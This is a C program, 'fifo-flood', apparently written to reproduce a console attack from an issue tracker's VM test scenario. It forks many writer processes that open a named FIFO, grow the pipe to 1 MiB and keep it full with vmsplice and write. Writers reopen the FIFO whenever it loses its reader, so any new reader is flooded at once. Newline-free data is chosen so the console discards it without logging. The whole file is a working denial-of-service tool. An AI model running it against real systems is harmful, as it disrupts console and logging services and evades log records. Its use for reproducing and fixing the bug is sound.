/* fifo-flood: the console attack of issue 18 (VM scenario s23), run as the
 * service user. WRITERS processes open FIFO for writing, grow the pipe to
 * 1 MiB (F_SETPIPE_SZ) and keep it full: a third with blocking vmsplice(2),
 * a third with blocking write(2), a third with non-blocking vmsplice(2)
 * that retries every millisecond (so a freed page is refilled without
 * waiting for a wake-up, which under emulation is slow). When the pipe loses its last reader (EPIPE) or the
 * FIFO is gone (ENOENT), a writer opens it again (blocking until there is a
 * reader), so whoever reads the FIFO next finds it refilled at once. Every
 * process ends after SECONDS (SIGALRM).
 *
 *   fifo-flood FIFO WRITERS SECONDS
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define CHUNK (64 * 1024)

static void writer(const char *fifo, int id, int kind)
{
    static char buf[CHUNK];
    int use_vmsplice = kind != 1, nonblock = kind == 2;
    unsigned long opens = 0;
    int reported = 0;
    /* No newline: a console that reads this discards it without logging. */
    memset(buf, 'x', sizeof buf);
    signal(SIGPIPE, SIG_IGN);
    for (;;) {
        int fd = open(fifo, O_WRONLY | O_CLOEXEC | (nonblock ? O_NONBLOCK : 0));
        if (fd < 0) {
            usleep(20000);
            continue;
        }
        opens++;
        int size = fcntl(fd, F_SETPIPE_SZ, 1 << 20);
        if (!reported) {
            fprintf(stderr, "writer %d (%s%s): pipe size %d%s%s\n", id, nonblock ? "non-blocking " : "",
                    use_vmsplice ? "vmsplice" : "write",
                    size, size < 0 ? ": " : "", size < 0 ? strerror(errno) : "");
            reported = 1;
        }
        for (;;) {
            ssize_t n;
            if (use_vmsplice) {
                struct iovec iov = {.iov_base = buf, .iov_len = sizeof buf};
                n = vmsplice(fd, &iov, 1, nonblock ? SPLICE_F_NONBLOCK : 0);
            } else {
                n = write(fd, buf, sizeof buf);
            }
            if (n < 0 && errno == EAGAIN) {
                usleep(1000);
                continue;
            }
            if (n < 0 && errno != EINTR)
                break;
        }
        close(fd);
        usleep(10000);
    }
    (void)opens;
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: fifo-flood FIFO WRITERS SECONDS\n");
        return 2;
    }
    int writers = atoi(argv[2]);
    int secs = atoi(argv[3]);
    if (writers < 1 || secs < 1) {
        fprintf(stderr, "fifo-flood: WRITERS and SECONDS must be positive\n");
        return 2;
    }
    for (int i = 0; i < writers; i++) {
        pid_t pid = fork();
        if (pid < 0) {
            perror("fork");
            return 1;
        }
        if (pid == 0) {
            alarm((unsigned)secs);
            writer(argv[1], i, i % 3);
            _exit(0);
        }
    }
    int status;
    while (wait(&status) > 0)
        ;
    fprintf(stderr, "fifo-flood: %d writers done after %d s\n", writers, secs);
    return 0;
}
